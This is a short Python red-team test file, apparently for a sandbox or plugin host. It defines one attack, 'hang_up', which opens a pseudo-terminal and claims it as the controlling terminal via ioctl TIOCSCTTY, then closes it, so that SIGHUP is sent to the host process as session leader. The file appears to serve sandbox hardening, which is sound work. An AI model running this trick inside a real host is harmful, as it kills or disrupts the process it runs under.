import fcntl
import os
import termios

from redteam import attack, on_message, run_when_started  # noqa: F401


@attack("os.openpty, ioctl TIOCSCTTY, close: SIGHUP to the host, a session leader", needs="native-code")
def hang_up():
    leader, follower = os.openpty()
    try:
        return fcntl.ioctl(follower, termios.TIOCSCTTY, 0)
    finally:
        os.close(follower)
        os.close(leader)


run_when_started()
